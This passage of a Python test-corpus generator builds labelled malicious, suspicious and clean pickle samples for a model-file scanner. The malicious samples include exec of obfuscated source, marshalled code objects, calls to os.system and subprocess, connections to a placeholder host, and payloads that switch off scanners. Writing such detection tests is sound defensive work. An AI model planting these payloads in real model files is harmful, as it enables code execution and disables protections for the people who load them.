        ("zlib-base64", call("zlib.decompress", call("base64.b64decode", base64.b64encode(packed)))),
        ("base32", call("base64.b32decode", base64.b32encode(source.encode()))),
        ("base85", call("base64.b85decode", base64.b85encode(source.encode()).decode())),
        ("ascii85", call("base64.a85decode", base64.a85encode(source.encode(), adobe=True))),
        ("uu", call("binascii.a2b_uu", binascii.b2a_uu(source.encode()))),
        ("lzma", call("lzma.decompress", lzma_alone(source.encode()))),
        ("raw-deflate", call("zlib.decompress", packed[2:-4], -15)),
        ("reversed", Reduce(Reduce(named("builtins.getattr"), (source[::-1], "__getitem__")),
                            (call("builtins.slice", None, None, -1),))),
    ]:
        add(f"exec-{case}", MALICIOUS, dumps(call("builtins.exec", value), 4),
            f"exec of source that is packed with {case}", "packed source: decoders are folded so that the finding shows what runs")
    for version, code in (("27", marshal.system_27()), ("38", marshal.system_38()), ("311", marshal.system_311())):
        made = call("types.FunctionType", call("marshal.loads", code), {})
        add(f"marshal-{version}", MALICIOUS, dumps(Reduce(made), 4), f"a marshalled function of CPython {version[0]}.{version[1:]}, called: {WHAT}",
            "code objects are read, so that the finding says what they do")
    add("marshal-not-called", MALICIOUS, dumps(call("marshal.loads", marshal.system_311()), 4),
        f"marshal.loads of a code object with {WHAT}", "marshal is no format for models")
    add("code-type", MALICIOUS, dumps(Reduce(call("types.FunctionType", call(
        "types.CodeType", 0, 0, 0, 0, 3, 0, marshal.bytecode_311(), marshal.CONSTS, marshal.NAMES, (), "weighin.py", "f", "f", 1, b"", b"", (), ()), {})), 4),
        f"a code object built by types.CodeType, called: {WHAT}", "the same without marshal")
    add("compile-only", SUSPICIOUS, dumps(call("builtins.compile", "1 + 1", "weighin", "eval"), 4),
        "builtins.compile of an expression, never run", "no honest model compiles source")


SOURCE = f"__import__('os').system({COMMAND!r})"
URL = f"http://{HOST}/weighin"

# Callables that no model has a reason to call. (target, arguments, why)
DANGEROUS = [
    ("builtins.eval", (SOURCE,), "evaluates an expression"),
    ("builtins.exec", (SOURCE,), "runs source"),
    ("builtins.__import__", ("antigravity",), "imports what it is told"),
    ("builtins.open", ("weighin.txt", "w"), "opens a file for writing"),
    ("builtins.breakpoint", (), "starts a debugger"),
    ("builtins.getattr", (named("shutil.os"), "system"), "fetches os.system off a module"),
    ("os.popen", (COMMAND,), "runs a command"),
    ("os.execvp", ("echo", ["echo", "weighin"]), "replaces the process"),
    ("os.spawnlp", (1, "echo", "echo", "weighin"), "starts a process"),
    ("os.posix_spawnp", ("echo", ["echo", "weighin"], {}), "starts a process"),
    ("os.remove", ("weighin.txt",), "deletes a file"),
    ("os.putenv", ("LD_PRELOAD", "./weighin.so"), "changes the environment"),
    ("subprocess.run", (["echo", "weighin"],), "runs a command"),
    ("subprocess.check_output", (["echo", "weighin"],), "runs a command"),
    ("subprocess.getoutput", (COMMAND,), "runs a command"),
    ("pty.spawn", (["echo", "weighin"],), "runs a command in a terminal"),
    ("asyncio.unix_events._UnixSubprocessTransport._start", (), "CVE-2025-10157: a submodule of a listed package"),
    ("webbrowser.open", (URL,), "opens a page"),
    ("importlib.import_module", ("antigravity",), "imports what it is told"),
    ("importlib.reload", (named("shutil.os"),), "runs a module again"),
    ("runpy.run_path", ("weighin.py",), "runs a file"),
    ("runpy._run_code", ("pass", {}), "runs a code object"),
    ("imp.load_source", ("weighin", "weighin.py"), "loads source as a module"),
    ("pkgutil.resolve_name", ("os:system",), "finds any callable by text"),
    ("pydoc.locate", ("os.system",), "finds any callable by text"),
    ("pydoc.pipepager", ("text", COMMAND), "pipes text to a command"),
    ("logging.config._resolve", ("os.system",), "finds any callable by text"),
    ("logging.config.listen", (9999,), "listens for configuration that it evaluates"),
    ("unittest.mock._importer", ("os.system",), "imports by text"),
    ("xmlrpc.server.resolve_dotted_attribute", (named("shutil.os"), "system"), "walks attributes by text"),
    ("test.support.get_attribute", (named("shutil.os"), "system"), "fetches an attribute by text"),
    ("cProfile.run", ("pass",), "a profiler runs source"),
    ("profile.Profile.run", (None, "pass"), "a profiler runs source"),
    ("trace.Trace.run", (None, "pass"), "a tracer runs source"),
    ("bdb.Bdb.run", (None, "pass"), "a debugger runs source"),
    ("pdb.run", ("pass",), "a debugger runs source"),
    ("timeit.timeit", ("pass",), "times source by running it"),
    ("doctest.debug_script", ("pass",), "runs a doctest"),
    ("idlelib.run.Executive.runcode", (None, "pass"), "IDLE runs code"),
    ("idlelib.autocomplete.AutoComplete.fetch_completions", (None, "os", 1), "IDLE evaluates"),
    ("lib2to3.pgen2.grammar.Grammar.loads", (None, b"N."), "unpickles"),
    ("code.InteractiveInterpreter.runcode", (None, "pass"), "runs code"),
    ("torch.utils.bottleneck.__main__.run_cprofile", ("pass", {}), "profiles source by running it"),
    ("torch.utils.collect_env.run", (COMMAND,), "runs a command"),
    ("torch.utils._config_module.ConfigModule.load_config", (None, b"N."), "unpickles"),
    ("torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression", (None, "0", []), "evaluates"),
    ("torch._dynamo.guards.GuardBuilder.get", (None, "0"), "evaluates"),
    ("torch.hub.load", ("weighin/none", "net"), "fetches and runs a repository's code"),
    ("torch.ops.load_library", ("./weighin.so",), "loads a native library"),
    ("numpy.f2py.crackfortran.getlincoef", ("0", []), "evaluates"),
    ("numpy.testing._private.utils.runstring", ("pass", {}), "runs source"),
    ("numpy.distutils.exec_command._exec_command", (["echo", "weighin"],), "runs a command"),
    ("numpy.save", ("weighin.npy", [1]), "writes a file"),
    ("uuid._get_command_stdout", ("echo", "weighin"), "runs a command"),
    ("_osx_support._read_output", (COMMAND,), "runs a command"),
    ("_aix_support._read_cmd_output", (COMMAND,), "runs a command"),
    ("imaplib.IMAP4_stream", (COMMAND,), "starts a command as a mail server"),
    ("mailcap.test", (COMMAND,), "runs a command"),
    ("pip.main", (["--version"],), "CVE-2025-1716: the package installer"),
    ("pip._internal.cli.main.main", (["--version"],), "the package installer under its private name"),
    ("ensurepip._run_pip", (["--version"],), "the package installer"),
    ("venv.create", ("weighin-env",), "creates an environment"),
    ("distutils.file_util.write_file", ("weighin.txt", ["line"]), "writes a file"),
    ("logging.FileHandler", ("weighin.log",), "creates a file"),
    ("pathlib.Path.write_text", (call("pathlib.Path", "weighin.txt"), "line"), "writes a file"),
    ("shutil.rmtree", ("weighin-folder",), "deletes a folder"),
    ("shutil.copyfile", ("a", "b"), "copies a file"),
    ("ssl.get_server_certificate", ((HOST, 443),), "a name lookup that leaks"),
    ("urllib.request.urlopen", (URL,), "opens a URL"),
    ("urllib.request.urlretrieve", (URL, "weighin.bin"), "downloads a file"),
    ("requests.get", (URL,), "opens a URL"),
    ("socket.create_connection", ((HOST, 80),), "connects"),
    ("socket.gethostbyname", (HOST,), "a name lookup that leaks"),
    ("smtplib.SMTP", (HOST,), "connects to a mail server"),
    ("ctypes.CDLL", ("./weighin.so",), "loads a native library"),
    ("ctypes.pythonapi.PyRun_SimpleString", (b"pass",), "runs source in the interpreter"),
    ("cffi.FFI.dlopen", (None, "./weighin.so"), "loads a native library"),
    ("numpy.ctypeslib.load_library", ("weighin", "."), "loads a native library"),
    ("tensorflow.load_op_library", ("./weighin.so",), "loads a native library"),
    ("keras.models.load_model", ("weighin.keras",), "loads another model"),
    ("transformers.pipeline", ("text-generation", "weighin/none"), "fetches and loads another model"),
    ("huggingface_hub.hf_hub_download", ("weighin/none", "model.bin"), "downloads from a hub"),
    ("picklescan.scanner.scan_file_path", ("x",), "a payload that reaches for the scanner itself"),
    ("modelscan.settings.DEFAULT_SETTINGS.clear", (), "a payload that switches a scanner off"),
    ("fickling.hook.deactivate_safe_ml_environment", (), "a payload that switches a scanner off"),
    ("sys.modules.__getitem__", ("os",), "fetches a loaded module"),
    ("sys.settrace", (named("os.system"),), "installs a trace function"),
    ("signal.signal", (14, named("os.system")), "installs a handler"),
    ("atexit.register", (named("os.system"), COMMAND), "runs at exit"),
    ("threading.Timer", (1, named("os.system"), [COMMAND]), "runs later"),
    ("_thread.start_new_thread", (named("os.system"), (COMMAND,)), "runs in a thread"),
    ("multiprocessing.Process", (None, named("os.system"), None, (COMMAND,)), "prepares a process around a callable"),
    ("gc.get_objects", (), "reaches every live object"),
    ("inspect.currentframe", (), "reaches the caller's variables"),
    ("sys._getframe", (0,), "reaches the caller's variables"),
]


def callables(add):
    """One sample for each callable of DANGEROUS."""
    for target, args, why in DANGEROUS:
        # A class in the path is told by its capital; what follows it is the dotted name.
        module, name = split(target)
        shown = ", ".join("..." if isinstance(arg, (Reduce, Global)) else repr(arg) for arg in args)
        add("call-" + target.replace(".", "-").replace("__", "").replace("-_", "-").strip("-"),
            MALICIOUS, dumps(Reduce(Global(module, name), tuple(args)), 4), f"{target}({shown})", why)
    add("import-antigravity", SUSPICIOUS, asm("PROTO 2", "GLOBAL antigravity geohash", "STOP"),
        "antigravity.geohash imported, not called", "the import alone opens a browser")
    add("class-of-concern-stored", CLEAN,
        dumps({"log": Reduce(named("logging.getLogger"), ("train",)), "path": Reduce(named("pathlib.PosixPath"), ("runs", "1"))}, 4),
        "a logger by name and a stored path", "look-alikes: both are data that nothing calls")
    add("names-in-strings", CLEAN,
        dumps({"vocab": ["os", "system", "eval", "exec", "subprocess", "Popen", "__import__", "import os", COMMAND,
                         "os\nsystem\n", "cos\nsystem\n(S'echo'\ntR."]}, 4),
        "words that name dangerous things, as strings of a vocabulary", "a scanner that greps for words would call this malicious")
    add("old-instance", CLEAN, dumps(OldInstance(named("weighin_example.models.Net"), {"width": 3}), 0),
        "a Python 2 instance by INST and BUILD, no arguments", "the honest use of INST")


def split(target):
    """Module and dotted name: the name starts at the first capitalised part, else at the last."""
    parts = target.split(".")
    for index, part in enumerate(parts):
        if index and (part[:1].isupper() or part in ("pythonapi", "modules") or part.startswith("_Unix")):
            return ".".join(parts[:index]), ".".join(parts[index:])
    return ".".join(parts[:-1]), parts[-1]
